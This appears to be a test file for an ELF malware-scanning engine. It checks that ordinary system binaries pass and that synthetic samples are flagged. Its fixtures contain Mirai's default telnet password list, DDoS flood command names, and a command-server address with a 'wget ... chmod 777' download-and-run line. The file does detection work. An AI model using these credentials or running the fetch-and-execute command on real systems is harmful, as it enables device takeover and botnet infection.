/** Assay-ELF verdicts on ELF attributes and strings, system binaries left alone, plus the engine contract. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { FileInput } from '../../core/plugin.js';
import { fileInputFor, runEngineContract, tempFile } from '../contract.case.test.js';
import { createAssayElfEngine } from './assay-elf-engine.js';

const staticStripped = { type_tag: 'elf', elf_info: { header: { type: 'EXEC (Executable file)', machine: 'MIPS R3000' }, section_list: [{ name: '.text' }], shared_libraries: [] } };

async function elf(content: string | Buffer, attributes: Record<string, unknown>): Promise<FileInput> {
  const input = await tempFile('sample', content);
  return { ...input, typeTag: 'elf', attributes };
}

const engine = createAssayElfEngine();
await engine.start();
const scan = (input: FileInput) => engine.scan(input, AbortSignal.timeout(30_000));

runEngineContract('Assay-ELF', createAssayElfEngine, { benign: await elf('\x7fELF ordinary program', { type_tag: 'elf' }) });

describe('Assay-ELF verdicts', () => {
  it('a system binary (/bin/ls, as the ELF analyzer would see it) is undetected', async () => {
    const ls = await fileInputFor('/bin/ls');
    const v = await scan({ ...ls, typeTag: 'elf', attributes: { elf_info: { header: { type: 'DYN', machine: 'Advanced Micro Devices X86-64' }, interp: '/lib64/ld-linux-x86-64.so.2', shared_libraries: ['libc.so.6'], section_list: [{ name: '.text' }] } } });
    assert.equal(v.category, 'undetected');
  });

  it('a telnet password dictionary is malicious (Mirai)', async () => {
    const v = await scan(await elf('\x7fELF\0xc3511\0vizxv\x007ujMko0admin\0juantech\0', staticStripped));
    assert.deepEqual([v.category, v.result], ['malicious', 'Assay.Linux.Mirai']);
  });

  it('flood commands are malicious (DDoS)', async () => {
    const v = await scan(await elf('\x7fELF\0udpflood\0HTTPFLOOD\0KILLATTK\0', {}));
    assert.deepEqual([v.category, v.result], ['malicious', 'Assay.Linux.DDoS']);
  });

  it('UPX alone is suspicious, not malicious', async () => {
    const v = await scan(await elf('\x7fELF\0UPX!\0', { packers: { 'Assay ELF': 'UPX' } }));
    assert.equal(v.category, 'suspicious');
  });

  it('a command server address with a download-and-run line is malicious', async () => {
    const v = await scan(await elf('\x7fELF\0 45.14.224.26:1845 \0cd /tmp; wget http://45.14.224.26/x; chmod 777 x\0', {}));
    assert.equal(v.category, 'malicious');
  });

  it('system binaries in /usr/bin are not flagged (a sample of them)', async (t) => {
    const bins = ['/usr/bin/ls', '/usr/bin/bash', '/usr/bin/curl', '/usr/bin/wget', '/usr/bin/ssh', '/usr/sbin/iptables'].filter((f) => existsSync(f));
    if (bins.length === 0) return t.skip('no system binaries');
    for (const f of bins) {
      const input = await fileInputFor(f);
      const interp = execFileSync('readelf', ['-l', f], { encoding: 'utf8' }).includes('interpreter') ? '/lib64/ld-linux-x86-64.so.2' : undefined;
      const v = await scan({ ...input, typeTag: 'elf', attributes: { elf_info: { header: { type: 'DYN' }, interp, shared_libraries: ['libc.so.6'], section_list: [{ name: '.text' }] } } });
      assert.equal(v.category, 'undetected', f);
    }
  });
});
